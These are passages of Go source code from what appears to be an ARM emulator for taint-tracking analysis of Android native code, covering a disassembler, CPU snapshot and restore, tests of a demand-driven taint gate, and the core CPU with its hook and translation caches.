	case OpB, OpBL, OpSVC:
		i.Rd, i.Rn, i.Rm = RegNone, RegNone, RegNone
	case OpBX, OpBLX:
		i.Rd, i.Rn = RegNone, RegNone
	}
}
