package arm

import (
	"fmt"
	"strings"
)

// Disasm renders a decoded instruction as assembler text, used by flow logs
// and error messages. addr is the instruction's own address (branch targets
// are rendered absolute).
func Disasm(insn Insn, addr uint32) string {
	suffix := insn.Cond.String()
	if insn.SetFlags {
		suffix += "S"
	}
	reg := func(r int8) string {
		switch r {
		case SP:
			return "SP"
		case LR:
			return "LR"
		case PC:
			return "PC"
		case RegNone:
			return "R?"
		default:
			return fmt.Sprintf("R%d", r)
		}
	}
	op2 := func() string {
		if insn.HasImm {
			return fmt.Sprintf("#%d", insn.Imm)
		}
		return reg(insn.Rm)
	}
	switch insn.Op {
	case OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC,
		OpLSL, OpLSR, OpASR, OpROR:
		return fmt.Sprintf("%s%s %s, %s, %s", insn.Op, suffix, reg(insn.Rd), reg(insn.Rn), op2())
	case OpMUL, OpSDIV, OpUDIV, OpFADDS, OpFSUBS, OpFMULS, OpFDIVS,
		OpFADDD, OpFSUBD, OpFMULD, OpFDIVD:
		return fmt.Sprintf("%s%s %s, %s, %s", insn.Op, suffix, reg(insn.Rd), reg(insn.Rn), reg(insn.Rm))
	case OpMOV, OpMVN:
		return fmt.Sprintf("%s%s %s, %s", insn.Op, suffix, reg(insn.Rd), op2())
	case OpMOVW, OpMOVT:
		return fmt.Sprintf("%s%s %s, #0x%x", insn.Op, suffix, reg(insn.Rd), uint32(insn.Imm))
	case OpCMP, OpCMN, OpTST, OpTEQ:
		// Compares set flags by definition; an S suffix would not re-parse.
		return fmt.Sprintf("%s%s %s, %s", insn.Op, insn.Cond, reg(insn.Rn), op2())
	case OpLDR, OpLDRB, OpLDRH, OpSTR, OpSTRB, OpSTRH:
		if insn.RegOffset {
			return fmt.Sprintf("%s%s %s, [%s, %s]", insn.Op, suffix, reg(insn.Rd), reg(insn.Rn), reg(insn.Rm))
		}
		if insn.Imm == 0 {
			return fmt.Sprintf("%s%s %s, [%s]", insn.Op, suffix, reg(insn.Rd), reg(insn.Rn))
		}
		return fmt.Sprintf("%s%s %s, [%s, #%d]", insn.Op, suffix, reg(insn.Rd), reg(insn.Rn), insn.Imm)
	case OpLDM, OpSTM:
		name := insn.Op.String()
		if insn.Rn == SP && insn.Writeback {
			if insn.Op == OpLDM {
				name = "POP"
			} else {
				name = "PUSH"
			}
			return fmt.Sprintf("%s%s %s", name, suffix, regListString(insn.RegList))
		}
		wb := ""
		if insn.Writeback {
			wb = "!"
		}
		return fmt.Sprintf("%s%s %s%s, %s", name, suffix, reg(insn.Rn), wb, regListString(insn.RegList))
	case OpB, OpBL:
		return fmt.Sprintf("%s%s 0x%08x", insn.Op, suffix, addr+insn.Size+uint32(insn.Imm))
	case OpBX, OpBLX:
		return fmt.Sprintf("%s%s %s", insn.Op, suffix, reg(insn.Rm))
	case OpSVC:
		return fmt.Sprintf("SVC%s #%d", suffix, insn.Imm)
	case OpNOP, OpHLT:
		return insn.Op.String()
	case OpSITOF, OpFTOSI, OpSITOD, OpDTOSI:
		return fmt.Sprintf("%s%s %s, %s", insn.Op, suffix, reg(insn.Rd), reg(insn.Rm))
	default:
		return fmt.Sprintf("<%s>", insn.Op)
	}
}

func regListString(list uint16) string {
	var parts []string
	for r := 0; r < 16; r++ {
		if list&(1<<r) == 0 {
			continue
		}
		// Collapse runs.
		start := r
		for r+1 < 16 && list&(1<<(r+1)) != 0 {
			r++
		}
		name := func(i int) string {
			switch i {
			case SP:
				return "SP"
			case LR:
				return "LR"
			case PC:
				return "PC"
			}
			return fmt.Sprintf("R%d", i)
		}
		if start == r {
			parts = append(parts, name(start))
		} else {
			parts = append(parts, name(start)+"-"+name(r))
		}
	}
	return "{" + strings.Join(parts, ", ") + "}"
}
