package arm

// This file implements the CPU side of the copy-on-write System snapshot
// (core.Snapshot): capture and restore of every mutable scalar the analyzer
// or the guest can change between attempts, designed so the translation
// caches survive a restore wherever they are still valid.
//
// The division of labor with mem.Memory.Restore matters: guest pages the
// attempt dirtied fire write-notify when they are swapped back, and
// onMemWrite already invalidates exactly those pages' decoded instructions
// and blocks. Restore therefore never flushes the caches wholesale — it only
// invalidates blocks on pages whose *non-byte* translation inputs changed
// (address hooks and static pins, both baked into blocks at translation
// time). Tracer changes are reconciled by runBlocks' boundTracer check, the
// same path that handles a tracer swap mid-session.

import "repro/internal/taint"

// CPUSnapshot holds the captured CPU state. Opaque to callers; produced by
// Snapshot and consumed by Restore on the same CPU.
type CPUSnapshot struct {
	r                  [16]uint32
	n, z, cf, v, thumb bool
	regTaint           [16]taint.Tag

	tracer                       Tracer
	decodeHook                   func(pc uint32, thumb bool, insn Insn)
	branchFn                     BranchFunc
	onCodeWrite                  func(addr uint32)
	branchWatchOn                bool
	branchWatchLo, branchWatchHi uint32
	svc                          func(c *CPU, num uint32) error

	addrHooks map[uint32]AddrHook
	checkHook bool

	useDecodeCache bool
	cacheHits      uint64
	cacheMisses    uint64

	useBlockCache bool
	blockHits     uint64
	blockMisses   uint64

	useTaintGate bool
	live         *taint.Liveness
	gateBail     bool
	gateWasLive  bool
	gateFlips    uint64
	gateFast     uint64
	gateSlow     uint64
	gatePinned   uint64

	pinnedPages map[uint32]bool

	halted    bool
	exitCode  int32
	insnCount uint64
}

// Snapshot captures the CPU's mutable state. Translation caches are NOT
// copied — they are forward-valid caches over guest bytes plus hook/pin/
// tracer inputs, and Restore invalidates exactly the entries whose inputs
// changed instead of recapturing them.
func (c *CPU) Snapshot() *CPUSnapshot {
	s := &CPUSnapshot{
		r: c.R,
		n: c.N, z: c.Z, cf: c.C, v: c.V, thumb: c.Thumb,
		regTaint: c.RegTaint,

		tracer:        c.Tracer,
		decodeHook:    c.DecodeHook,
		branchFn:      c.BranchFn,
		onCodeWrite:   c.OnCodeWrite,
		branchWatchOn: c.branchWatchOn,
		branchWatchLo: c.branchWatchLo,
		branchWatchHi: c.branchWatchHi,
		svc:           c.SVC,

		addrHooks: make(map[uint32]AddrHook, len(c.addrHooks)),
		checkHook: c.checkHook,

		useDecodeCache: c.UseDecodeCache,
		cacheHits:      c.CacheHits,
		cacheMisses:    c.CacheMisses,

		useBlockCache: c.UseBlockCache,
		blockHits:     c.BlockHits,
		blockMisses:   c.BlockMisses,

		useTaintGate: c.UseTaintGate,
		live:         c.Live,
		gateBail:     c.gateBail,
		gateWasLive:  c.gateWasLive,
		gateFlips:    c.GateFlips,
		gateFast:     c.GateFastBlocks,
		gateSlow:     c.GateSlowBlocks,
		gatePinned:   c.GatePinnedBlocks,

		halted:    c.Halted,
		exitCode:  c.ExitCode,
		insnCount: c.InsnCount,
	}
	for a, h := range c.addrHooks {
		s.addrHooks[a] = h
	}
	if c.pinnedPages != nil {
		s.pinnedPages = make(map[uint32]bool, len(c.pinnedPages))
		for pn := range c.pinnedPages {
			s.pinnedPages[pn] = true
		}
	}
	return s
}

// Restore rewinds the CPU to s. Blocks on pages whose hook set or pin set
// differs from the snapshot are invalidated (both are baked into blocks at
// translation time); everything else in the decode and block caches is kept
// — pages the attempt wrote were already invalidated by the write-notify
// path when memory was restored. A restored Tracer that differs from the
// bound one is reconciled by the next runBlocks dispatch.
func (c *CPU) Restore(s *CPUSnapshot) {
	// Invalidate blocks on pages whose hook presence changed.
	changed := make(map[uint32]bool)
	for a := range c.addrHooks {
		if _, ok := s.addrHooks[a]; !ok {
			changed[a>>12] = true
		}
	}
	for a := range s.addrHooks {
		if _, ok := c.addrHooks[a]; !ok {
			changed[a>>12] = true
		}
	}
	// ... and pages whose pin state changed (pins bake `pinned` into blocks).
	for pn := range c.pinnedPages {
		if !s.pinnedPages[pn] {
			changed[pn] = true
		}
	}
	for pn := range s.pinnedPages {
		if c.pinnedPages == nil || !c.pinnedPages[pn] {
			changed[pn] = true
		}
	}
	for pn := range changed {
		c.invalidatePageBlocks(pn)
	}

	c.addrHooks = make(map[uint32]AddrHook, len(s.addrHooks))
	for a, h := range s.addrHooks {
		c.addrHooks[a] = h
	}
	c.pinnedPages = nil
	if s.pinnedPages != nil {
		c.pinnedPages = make(map[uint32]bool, len(s.pinnedPages))
		for pn := range s.pinnedPages {
			c.pinnedPages[pn] = true
		}
	}

	c.R = s.r
	c.N, c.Z, c.C, c.V, c.Thumb = s.n, s.z, s.cf, s.v, s.thumb
	c.RegTaint = s.regTaint

	c.Tracer = s.tracer
	c.DecodeHook = s.decodeHook
	c.BranchFn = s.branchFn
	c.OnCodeWrite = s.onCodeWrite
	c.branchWatchOn = s.branchWatchOn
	c.branchWatchLo, c.branchWatchHi = s.branchWatchLo, s.branchWatchHi
	c.SVC = s.svc
	c.checkHook = s.checkHook

	c.UseDecodeCache = s.useDecodeCache
	c.CacheHits, c.CacheMisses = s.cacheHits, s.cacheMisses

	c.UseBlockCache = s.useBlockCache
	c.BlockHits, c.BlockMisses = s.blockHits, s.blockMisses
	c.blockErr = nil

	c.UseTaintGate = s.useTaintGate
	c.Live = s.live
	c.gateBail, c.gateWasLive = s.gateBail, s.gateWasLive
	c.GateFlips, c.GateFastBlocks, c.GateSlowBlocks = s.gateFlips, s.gateFast, s.gateSlow
	c.GatePinnedBlocks = s.gatePinned

	c.Halted = s.halted
	c.ExitCode = s.exitCode
	c.InsnCount = s.insnCount
}
