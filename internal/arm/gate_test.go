package arm

import (
	"testing"

	"repro/internal/mem"
	"repro/internal/taint"
)

// miniTracer is a Table V-style propagator small enough for arm-level tests:
// loads pull taint from a memory map, stores push register taint into it, and
// MOV/ADD union their operands — enough to observe whether the instrumented
// or the bare block variant executed.
type miniTracer struct {
	mt     *taint.MemTaint
	traced int
}

func (tr *miniTracer) addrOf(c *CPU, insn Insn) uint32 {
	if insn.RegOffset {
		return c.R[insn.Rn] + c.R[insn.Rm]
	}
	return c.R[insn.Rn] + uint32(insn.Imm)
}

func (tr *miniTracer) TraceInsn(c *CPU, addr uint32, insn Insn) {
	tr.traced++
	switch insn.Op {
	case OpLDR:
		c.RegTaint[insn.Rd] = tr.mt.Get32(tr.addrOf(c, insn))
	case OpSTR:
		tr.mt.Set32(tr.addrOf(c, insn), c.RegTaint[insn.Rd])
	case OpMOV:
		if insn.HasImm {
			c.RegTaint[insn.Rd] = 0
		} else {
			c.RegTaint[insn.Rd] = c.RegTaint[insn.Rm]
		}
	case OpADD:
		t := c.RegTaint[insn.Rn]
		if !insn.HasImm {
			t |= c.RegTaint[insn.Rm]
		}
		c.RegTaint[insn.Rd] = t
	}
}

// gateProgram: the first instruction's store triggers an external observer
// that taints [R2] — a source firing mid-block, after the block was already
// dispatched onto the bare fast path. The rest of the SAME block then loads
// and propagates that taint, so the bail must redirect mid-run.
const gateProgram = `
_start:
	STR R0, [R1]
	LDR R3, [R2]
	MOV R4, R3
	HLT
`

func runGateProgram(t *testing.T, gate bool) (*CPU, *miniTracer) {
	t.Helper()
	const dataAddr, srcAddr = 0x40000, 0x44000
	prog := MustAssemble(gateProgram, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)

	live := taint.NewLiveness()
	mt := taint.NewMemTaint()
	mt.AttachLiveness(live)
	tr := &miniTracer{mt: mt}

	c := New(m)
	c.UseDecodeCache = true
	c.UseBlockCache = true
	c.Tracer = tr
	c.AttachLiveness(live)
	c.UseTaintGate = gate
	c.R[1] = dataAddr
	c.R[2] = srcAddr

	// External taint introduction (the write-notify analog of a source hook
	// firing from inside a modeled call): the store to dataAddr taints
	// srcAddr while the block is mid-run.
	armed := true
	m.AddWriteNotify(func(addr, n uint32) {
		if armed && addr>>12 == dataAddr>>12 {
			armed = false
			mt.Set32(srcAddr, taint.IMEI)
		}
	})

	c.SetThumbPC(prog.Base)
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if !c.Halted {
		t.Fatal("program did not halt")
	}
	return c, tr
}

// TestGateMidBlockTaintIntroduction: taint introduced by an external observer
// while a bare block is executing must still be tracked — the liveness edge
// sets gateBail, the bare loop abandons the block at the next step boundary,
// and the remainder re-dispatches onto the instrumented variant. The final
// shadow state must match the always-instrumented run exactly.
func TestGateMidBlockTaintIntroduction(t *testing.T) {
	ref, _ := runGateProgram(t, false)
	got, tr := runGateProgram(t, true)

	if got.RegTaint != ref.RegTaint {
		t.Errorf("shadow registers diverge:\ngated   %v\nungated %v", got.RegTaint, ref.RegTaint)
	}
	if got.RegTaint[3] != taint.IMEI || got.RegTaint[4] != taint.IMEI {
		t.Errorf("mid-block taint lost: R3=%v R4=%v, want IMEI", got.RegTaint[3], got.RegTaint[4])
	}
	if got.R != ref.R {
		t.Errorf("architectural registers diverge:\ngated   %v\nungated %v", got.R, ref.R)
	}
	if got.GateFlips == 0 {
		t.Error("gate never flipped despite mid-block taint introduction")
	}
	if got.GateFastBlocks == 0 {
		t.Error("block never started on the fast path")
	}
	if got.GateSlowBlocks == 0 {
		t.Error("remainder of the block never re-dispatched instrumented")
	}
	// The tracer must have seen everything after the introduction (LDR, MOV,
	// HLT) and must NOT have seen the STR (pre-introduction, provably clean).
	if tr.traced != 3 {
		t.Errorf("traced %d instructions on the gated run, want 3 (LDR+MOV+HLT)", tr.traced)
	}
}

// TestGateDrainReengagesFastPath: clearing the last tainted byte drops the
// liveness count to zero and the very next block dispatch takes the bare
// fast path again — no invalidation or retranslation required.
func TestGateDrainReengagesFastPath(t *testing.T) {
	const src = `
_start:
	MOV R5, #3
loop:
	ADD R0, R0, #1
	SUB R5, R5, #1
	CMP R5, #0
	BNE loop
	HLT
`
	prog := MustAssemble(src, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)

	live := taint.NewLiveness()
	mt := taint.NewMemTaint()
	mt.AttachLiveness(live)
	tr := &miniTracer{mt: mt}

	c := New(m)
	c.UseDecodeCache = true
	c.UseBlockCache = true
	c.Tracer = tr
	c.AttachLiveness(live)
	c.UseTaintGate = true

	// Phase 1: taint live — everything runs instrumented.
	mt.SetRange(0x50000, 16, taint.SMS)
	c.SetThumbPC(prog.Base)
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if c.GateFastBlocks != 0 {
		t.Errorf("fast blocks with taint live: %d, want 0", c.GateFastBlocks)
	}
	slow := c.GateSlowBlocks
	if slow == 0 {
		t.Fatal("no slow blocks despite live taint")
	}

	// Phase 2: drain to zero, rerun — the fast path must re-engage.
	mt.SetRange(0x50000, 16, taint.Clear)
	if mt.TaintedBytes() != 0 || live.Count(taint.SrcMem) != 0 {
		t.Fatalf("drain incomplete: bytes=%d live=%d", mt.TaintedBytes(), live.Count(taint.SrcMem))
	}
	c.Halted = false
	c.SetThumbPC(prog.Base)
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if c.GateFastBlocks == 0 {
		t.Error("fast path did not re-engage after taint drained to zero")
	}
	if c.GateSlowBlocks != slow {
		t.Errorf("slow blocks after drain: %d, want unchanged %d", c.GateSlowBlocks, slow)
	}
	if c.R[0] != 6 {
		t.Errorf("R0 = %d, want 6 (both runs of the loop)", c.R[0])
	}
}

// TestGateVariantsAgree: gated and ungated execution must agree on
// architectural state for an arbitrary mixed workload with taint present
// from the start (gate selects the slow path throughout).
func TestGateVariantsAgree(t *testing.T) {
	const src = `
_start:
	MOV R0, #0
	MOV R2, #10
loop:
	ADD R0, R0, R2
	STR R0, [R6]
	LDR R7, [R6]
	SUB R2, R2, #1
	CMP R2, #0
	BNE loop
	HLT
`
	run := func(gate bool, seed bool) *CPU {
		prog := MustAssemble(src, testBase, nil)
		m := mem.New()
		m.WriteBytes(prog.Base, prog.Code)
		live := taint.NewLiveness()
		mt := taint.NewMemTaint()
		mt.AttachLiveness(live)
		c := New(m)
		c.UseDecodeCache = true
		c.UseBlockCache = true
		c.Tracer = &miniTracer{mt: mt}
		c.AttachLiveness(live)
		c.UseTaintGate = gate
		c.R[6] = 0x40000
		if seed {
			c.RegTaint[0] = taint.Contacts
		}
		c.SetThumbPC(prog.Base)
		if err := c.Run(10000); err != nil {
			t.Fatal(err)
		}
		return c
	}
	for _, seed := range []bool{false, true} {
		ref := run(false, seed)
		got := run(true, seed)
		if got.R != ref.R || got.RegTaint != ref.RegTaint || got.InsnCount != ref.InsnCount {
			t.Errorf("seed=%v: state diverges\ngated   R=%v T=%v n=%d\nungated R=%v T=%v n=%d",
				seed, got.R, got.RegTaint, got.InsnCount, ref.R, ref.RegTaint, ref.InsnCount)
		}
	}
}
