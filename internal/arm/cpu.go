package arm

import (
	"fmt"
	"math"

	"repro/internal/fault"
	"repro/internal/mem"
	"repro/internal/taint"
)

// HookAction tells the CPU what to do after an address hook ran.
type HookAction int

const (
	// ActionContinue executes the instruction at the hooked address normally
	// (analysis-only hooks).
	ActionContinue HookAction = iota + 1
	// ActionReturn means the hook performed the entire call itself (a modeled
	// function or a trampoline into host code); the CPU simulates `BX LR`.
	ActionReturn
)

// AddrHook runs when the PC reaches a registered address — the reproduction
// of NDroid inserting TCG analysis code at function boundaries (§V-G).
type AddrHook func(c *CPU) HookAction

// Tracer observes every instruction right before it executes, exactly where
// NDroid's instruction tracer propagates taint ("before the instruction is
// executed", §V-G).
type Tracer interface {
	TraceInsn(c *CPU, addr uint32, insn Insn)
}

// BranchFunc observes every taken control transfer (from, to); multilevel
// hooking (Fig. 5) is built on this event stream.
type BranchFunc func(c *CPU, from, to uint32)

// CPU is the emulated guest processor.
type CPU struct {
	R     [16]uint32 // R13=SP, R14=LR, R15=PC
	N     bool
	Z     bool
	C     bool
	V     bool
	Thumb bool

	Mem *mem.Memory

	// RegTaint is the shadow register file maintained by the taint engine
	// (§V-E, "NDroid maintains shadow registers").
	RegTaint [16]taint.Tag

	// Tracer, when non-nil, is invoked before every executed instruction.
	Tracer Tracer
	// DecodeHook, when non-nil, observes every successfully decoded
	// instruction (the disassembler round-trip test records the decode set
	// of a whole run through it). It fires per decode, not per execution:
	// cached translations do not re-invoke it.
	DecodeHook func(pc uint32, thumb bool, insn Insn)
	// BranchFn, when non-nil, is invoked on every taken control transfer.
	BranchFn BranchFunc
	// branchWatchLo/Hi, while branchWatchOn, bound the transfer targets
	// BranchFn cares about: EmitBranch rejects other targets with two
	// compares instead of two indirect calls. The multilevel hook engine
	// narrows the watch to the libdvm entry range while its precondition
	// chain is at level 0 — the steady state in clean native code.
	branchWatchOn                bool
	branchWatchLo, branchWatchHi uint32
	// SVC handles supervisor calls (the kernel syscall interface).
	SVC func(c *CPU, num uint32) error

	addrHooks map[uint32]AddrHook
	// checkHook gates the hook-table lookup: hooks sit at function entries,
	// which are only reached through control transfers, so the lookup runs
	// after branches rather than on every instruction (the analog of QEMU
	// checking for instrumentation at translation-block entry).
	checkHook bool

	// UseDecodeCache enables the hot-instruction cache (§V-C: "NDroid caches
	// hot instructions and the corresponding handlers"). The cache is paged
	// with a one-entry page memo, exploiting code locality.
	UseDecodeCache bool
	decodeCache    map[uint32]*decodePage
	lastPageKey    uint32
	lastPage       *decodePage
	// CacheHits/CacheMisses feed the decode-cache ablation benchmark.
	CacheHits   uint64
	CacheMisses uint64

	// UseBlockCache enables the basic-block translation engine (the TCG
	// analog; see translate.go): Run/RunUntil execute cached blocks of
	// pre-resolved step closures instead of the per-instruction
	// fetch/decode/dispatch loop. Step() always uses the interpreter.
	UseBlockCache bool
	blockCache    map[uint32]*Block
	blocksByPage  map[uint32][]*Block
	// codePages is a 2^20-bit page bitmap marking pages that hold cached
	// translations; the Memory write-notify consults it to keep stores to
	// non-code pages nearly free. Allocated lazily on first translation.
	codePages []uint32
	// codeExt records, per marked page, the [lo, hi) byte range actually
	// decoded or translated. Stores to a marked page but outside its code
	// extent cannot touch cached state, so the notify ignores them — this
	// is what keeps data that shares a page with code (small images place
	// .data right after .text) from forcing retranslation on every write.
	codeExt     map[uint32][2]uint32
	boundTracer Tracer
	blockErr    error
	// BlockHits counts block executions served from the cache (including
	// chained successors); BlockMisses counts translations.
	BlockHits   uint64
	BlockMisses uint64

	// UseTaintGate enables demand-driven instrumentation: blocks translated
	// under a tracer carry a second, bare variant with no Table V dispatch,
	// and block dispatch selects it whenever no taint is live anywhere the
	// tracer could propagate from (the attached Liveness aggregate plus the
	// shadow register file). Off by default; core.NewAnalyzer turns it on
	// once the liveness wiring is complete.
	UseTaintGate bool
	// Live is the process-wide taint liveness aggregate (attach with
	// AttachLiveness). The gate consults its SrcMem count; register taint is
	// scanned directly (16 words) instead of being write-instrumented.
	Live *taint.Liveness
	// gateBail is set by a liveness edge (first taint introduced) while a
	// bare block may be mid-run; the bare step loop checks it so the rest of
	// the block re-dispatches onto the instrumented variant.
	gateBail    bool
	gateWasLive bool
	// GateFlips counts fast<->slow transitions observed at block dispatch;
	// GateFastBlocks/GateSlowBlocks count block executions per variant.
	GateFlips      uint64
	GateFastBlocks uint64
	GateSlowBlocks uint64
	// pinnedPages marks 4 KiB code pages the static pre-analysis proved can
	// never execute while taint is live (internal/static): blocks whose
	// bytes lie entirely on pinned pages dispatch straight onto the bare
	// variant without even the edge-cached liveness check. The pin is baked
	// into the Block at translation time (PinPage invalidates existing
	// translations), and the dispatch still falls back to the full gate when
	// a taint edge is pending — so a wrong pin degrades to the dynamic gate
	// instead of dropping taint.
	pinnedPages map[uint32]bool
	// GatePinnedBlocks counts block executions dispatched via a static pin.
	GatePinnedBlocks uint64

	// CodeEpoch increments on every block invalidation — hooks added or
	// removed, pins, self-modifying stores into code extents, cache resets,
	// snapshot restores that changed code pages. It is monotonic (never
	// rewound, even across Restore) so a cached chain that captured an epoch
	// can validate with one compare: equal epoch ⇒ no translation anywhere
	// was invalidated since. The fused JNI bridge keys its traces off it.
	CodeEpoch uint64

	// OnCodeWrite observes guest stores that land inside a translated code
	// extent — the self-modifying-code events that force retranslation. The
	// JNI surface observer subscribes to it to catch natives that rewrite
	// their own hooks; it fires after the invalidation so the callback sees
	// the post-invalidation epoch.
	OnCodeWrite func(addr uint32)

	Halted    bool
	ExitCode  int32
	InsnCount uint64
}

// decodePage caches decoded instructions for one 4 KiB page (indexed by
// halfword offset; Size == 0 marks an empty slot).
type decodePage [2048]Insn

// New returns a CPU attached to m with an empty hook table. The CPU
// subscribes to m's write notifications so that stores into translated code
// pages invalidate the decoded-instruction and block caches.
func New(m *mem.Memory) *CPU {
	c := &CPU{
		Mem:         m,
		addrHooks:   make(map[uint32]AddrHook),
		decodeCache: make(map[uint32]*decodePage),
		checkHook:   true,
		lastPageKey: ^uint32(0),
	}
	m.AddWriteNotify(c.onMemWrite)
	return c
}

// AttachLiveness connects the CPU to the process-wide taint liveness
// aggregate and subscribes to its edges: the first tag introduced anywhere
// (source hook, JNI entry marshalling, SetRange from a syscall model) raises
// gateBail so that a bare fast-path block already executing is abandoned at
// its next step boundary and the remainder re-dispatches instrumented.
func (c *CPU) AttachLiveness(l *taint.Liveness) {
	c.Live = l
	l.Subscribe(func(s taint.Source, live bool) {
		if live {
			c.gateBail = true
		}
	})
}

// TaintedRegs returns how many shadow registers currently carry taint — the
// register-file analog of MemTaint.TaintedBytes, computed by scanning the 16
// entries (cheaper at dispatch granularity than write-instrumenting every
// Table V handler).
func (c *CPU) TaintedRegs() int {
	n := 0
	for _, t := range &c.RegTaint {
		if t != 0 {
			n++
		}
	}
	return n
}

// taintLive is the native-side gate predicate: true when any taint exists
// that Table V propagation could read — tainted native memory or a tainted
// shadow register. Java-side object tags do not force the slow path: they
// can only reach native state through boundary marshalling, which raises the
// mem/register counts itself.
//
// The clean state is edge-cached: while the previous dispatch found the
// machine clean and no bail has been raised since, nothing can have changed
// — memory/ref/Java introductions fire a liveness edge (which sets
// gateBail), Table V handlers only run on the slow path, and every non-
// tracer shadow-register writer goes through SetRegTaint (which sets
// gateBail for nonzero tags). The slow state is never cached: each
// instrumented dispatch re-derives liveness so draining taint re-engages
// the fast path immediately.
func (c *CPU) taintLive() bool {
	if !c.gateWasLive && !c.gateBail {
		return false
	}
	c.gateBail = false
	if c.Live != nil && c.Live.Count(taint.SrcMem) != 0 {
		return true
	}
	var or taint.Tag
	for _, t := range &c.RegTaint {
		or |= t
	}
	return or != 0
}

// SetRegTaint writes one shadow register from hook or model context (source
// policies, JNI marshalling, libc models — anything outside the Table V
// handlers, which only execute on the instrumented path). Such writers must
// use it instead of storing into RegTaint directly: a nonzero tag raises
// gateBail so the gate's cached clean verdict is re-derived at the next
// block dispatch.
func (c *CPU) SetRegTaint(i int, t taint.Tag) {
	c.RegTaint[i] = t
	if t != 0 {
		c.gateBail = true
	}
}

// PinPage marks one 4 KiB page (page number = addr >> 12) as statically
// taint-irrelevant. Existing translations on the page are invalidated so the
// pin takes effect on already-translated code.
func (c *CPU) PinPage(page uint32) {
	if c.pinnedPages == nil {
		c.pinnedPages = make(map[uint32]bool)
	}
	c.pinnedPages[page] = true
	c.invalidatePageBlocks(page)
}

// PinnedPageCount reports how many pages carry a static pin.
func (c *CPU) PinnedPageCount() int { return len(c.pinnedPages) }

// UnpinPages drops every static page pin, invalidating the blocks that baked
// a pin in, and reports how many pins were dropped. Called when a dynamic
// RegisterNatives swap voids the code layout the static pass proved pins
// against; unpinned blocks fall back to the dynamic liveness gate, which is
// always sound.
func (c *CPU) UnpinPages() int {
	n := len(c.pinnedPages)
	for page := range c.pinnedPages {
		c.invalidatePageBlocks(page)
	}
	c.pinnedPages = nil
	return n
}

// Hook registers fn at addr (bit 0 ignored). A second registration at the
// same address replaces the first; composition is the caller's concern.
// Blocks on the affected page are invalidated: translation stops blocks at
// hooked addresses, and hooks are added mid-run (the multilevel hooking
// engine and the SourcePolicy entry hooks both do so).
func (c *CPU) Hook(addr uint32, fn AddrHook) {
	c.addrHooks[addr&^1] = fn
	c.invalidatePageBlocks((addr &^ 1) >> 12)
}

// Unhook removes any hook at addr and invalidates the page's blocks.
func (c *CPU) Unhook(addr uint32) {
	delete(c.addrHooks, addr&^1)
	c.invalidatePageBlocks((addr &^ 1) >> 12)
}

// HookedAddrs reports how many addresses currently carry hooks.
func (c *CPU) HookedAddrs() int { return len(c.addrHooks) }

// EmitBranch publishes a synthetic control-transfer event. The DVM layer uses
// this so that calls flowing through host-implemented libdvm functions still
// appear on the branch stream that multilevel hooking watches.
func (c *CPU) EmitBranch(from, to uint32) {
	if c.BranchFn == nil {
		return
	}
	if c.branchWatchOn && (to < c.branchWatchLo || to > c.branchWatchHi) {
		return
	}
	c.BranchFn(c, from, to)
}

// SetBranchWatch narrows branch-event delivery to targets in [lo, hi]. The
// observer must be able to prove that transfers outside the range cannot
// change its state (the multilevel chain at level 0 only reacts to JNI-exit
// entries, which all live inside the watched range).
func (c *CPU) SetBranchWatch(lo, hi uint32) {
	c.branchWatchOn, c.branchWatchLo, c.branchWatchHi = true, lo, hi
}

// ClearBranchWatch restores delivery of every branch event.
func (c *CPU) ClearBranchWatch() { c.branchWatchOn = false }

// Arg returns the i-th AAPCS argument (R0–R3, then the stack).
func (c *CPU) Arg(i int) uint32 {
	if i < 4 {
		return c.R[i]
	}
	return c.Mem.Read32(c.R[SP] + uint32(i-4)*4)
}

// ArgTaint returns the shadow taint of the i-th AAPCS argument. Stack
// arguments are resolved through the provided memory-taint map.
func (c *CPU) ArgTaint(i int, mt *taint.MemTaint) taint.Tag {
	if i < 4 {
		return c.RegTaint[i]
	}
	if mt == nil {
		return taint.Clear
	}
	return mt.Get32(c.R[SP] + uint32(i-4)*4)
}

// SetThumbPC sets PC (and the Thumb state) from an interworking address.
// Landing via an explicit PC change re-arms the hook check.
func (c *CPU) SetThumbPC(addr uint32) {
	c.Thumb = addr&1 != 0
	c.R[PC] = addr &^ 1
	c.checkHook = true
}

// SetPCNoHook is SetThumbPC without re-arming the hook check: the first
// instruction at addr executes even if a hook is installed there. Summary
// validation uses it to re-enter a function body under mutated inputs
// without firing the method-entry hook (which would consume the pending
// source policy armed for the real crossing).
func (c *CPU) SetPCNoHook(addr uint32) {
	c.Thumb = addr&1 != 0
	c.R[PC] = addr &^ 1
	c.checkHook = false
}

func (c *CPU) fetch(pc uint32) Insn {
	if c.UseDecodeCache {
		pageKey := pc >> 12 << 1
		if c.Thumb {
			pageKey |= 1
		}
		page := c.lastPage
		if pageKey != c.lastPageKey {
			var ok bool
			page, ok = c.decodeCache[pageKey]
			if !ok {
				page = new(decodePage)
				c.decodeCache[pageKey] = page
			}
			c.lastPageKey = pageKey
			c.lastPage = page
		}
		slot := &page[(pc&0xfff)>>1]
		if slot.Size != 0 {
			c.CacheHits++
			return *slot
		}
		c.CacheMisses++
		insn := c.decodeAt(pc)
		*slot = insn
		// Mark only the decoded bytes, not the whole page: the write-notify
		// extent check then lets data on the same page be stored to freely.
		c.markCodeRange(pc, pc+uint32(insn.Size))
		return insn
	}
	return c.decodeAt(pc)
}

func (c *CPU) decodeAt(pc uint32) Insn {
	// An all-zero word on an unmapped page is the signature of a wild branch:
	// sparse memory reads back zeroes, which happen to decode as valid
	// instructions (ARM: ANDEQ, Thumb: MOVS). Mapped is only consulted for
	// zero words, so well-formed code never pays the page probe.
	if c.Thumb {
		w0 := c.Mem.Read16(pc)
		if w0 == 0 && !c.Mem.Mapped(pc) {
			return Insn{Op: OpInvalid, Size: 2}
		}
		insn := DecodeThumb(w0, c.Mem.Read16(pc+2))
		if c.DecodeHook != nil && insn.Op != OpInvalid {
			c.DecodeHook(pc, true, insn)
		}
		return insn
	}
	w := c.Mem.Read32(pc)
	if w == 0 && !c.Mem.Mapped(pc) {
		return Insn{Op: OpInvalid, Size: 4}
	}
	insn := Decode(w)
	if c.DecodeHook != nil && insn.Op != OpInvalid {
		c.DecodeHook(pc, false, insn)
	}
	return insn
}

func (c *CPU) condHolds(cond Cond) bool {
